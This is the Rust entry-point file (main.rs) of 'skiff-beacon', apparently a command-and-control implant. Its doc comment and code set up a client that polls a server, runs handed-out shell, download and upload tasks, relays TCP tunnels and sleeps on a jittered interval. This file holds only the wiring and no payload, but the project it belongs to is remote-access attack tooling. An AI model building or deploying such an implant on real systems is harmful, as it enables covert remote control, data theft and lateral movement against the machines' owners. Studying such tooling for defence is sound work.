#![deny(clippy::all)]
#![warn(clippy::pedantic)]

//! # skiff-beacon
//!
//! Polls a skiff server over HTTP, runs the tasks it hands out, and relays
//! TCP tunnels through the same exchange.
//!
//! ## Architecture
//!
//! ```text
//! main.rs      entry point, config loading, signal handling
//! agent.rs     poll loop: deliver results, start tasks, sleep
//! client.rs    HTTP transport (check-in, chunk fetch)
//! exec/        shell, download, upload, sleep, exit handlers
//! transfer.rs  chunked download into a verified temp file
//! tunnel.rs    per-tunnel reader/writer workers
//! sleep.rs     jittered poll interval
//! config.rs    TOML + env-var configuration
//! ```

use std::sync::Arc;
use std::time::Duration;

use clap::Parser;
use tokio_util::sync::CancellationToken;
use tracing::{error, info};

use skiff_beacon::agent::{hostname, Agent};
use skiff_beacon::client::BeaconClient;
use skiff_beacon::exec::{builtin_registry, ExecContext};
use skiff_beacon::sleep::SleepCell;
use skiff_beacon::tunnel::TunnelManager;
use skiff_beacon::BeaconConfig;

/// Polling beacon for the skiff server.
#[derive(Parser)]
#[command(name = "skiff-beacon", version)]
struct Cli {
    /// Path to TOML config file.
    #[arg(long)]
    config: Option<String>,
}

#[tokio::main]
async fn main() {
    let cli = Cli::parse();
    let config = match BeaconConfig::load(cli.config.as_deref()) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("skiff-beacon: {e}");
            std::process::exit(2);
        }
    };

    let log_filter = std::env::var("RUST_LOG").unwrap_or_else(|_| config.logging.level.clone());
    tracing_subscriber::fmt().with_env_filter(log_filter).init();

    let beacon_id = config
        .server
        .beacon_id
        .clone()
        .unwrap_or_else(|| uuid::Uuid::new_v4().to_string());
    info!(
        beacon_id = %beacon_id,
        server = %config.server.url,
        "skiff-beacon v{} starting",
        env!("CARGO_PKG_VERSION")
    );

    let client = match BeaconClient::new(
        &config.server.url,
        config.server.beacon_key.clone(),
        Duration::from_secs(config.server.connect_timeout_secs),
        Duration::from_secs(config.server.request_timeout_secs),
    ) {
        Ok(c) => Arc::new(c),
        Err(e) => {
            error!("Failed to build HTTP client: {e}");
            std::process::exit(1);
        }
    };
    let registry = match builtin_registry() {
        Ok(r) => Arc::new(r),
        Err(e) => {
            error!("Failed to build command registry: {e}");
            std::process::exit(1);
        }
    };

    let ctx = Arc::new(ExecContext {
        config: config.exec.clone(),
        sleep: Arc::new(SleepCell::new(
            config.sleep.interval_secs,
            config.sleep.jitter_pct,
        )),
        chunks: client.clone(),
        exit: CancellationToken::new(),
    });
    let tunnels = TunnelManager::new(config.tunnel.clone());

    let mut agent = Agent::new(beacon_id, hostname(), client, registry, ctx, tunnels);

    let shutdown = CancellationToken::new();
    let signal_token = shutdown.clone();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            info!("Received SIGINT");
            signal_token.cancel();
        }
    });

    agent.run(shutdown).await;
    info!("Goodbye");
}
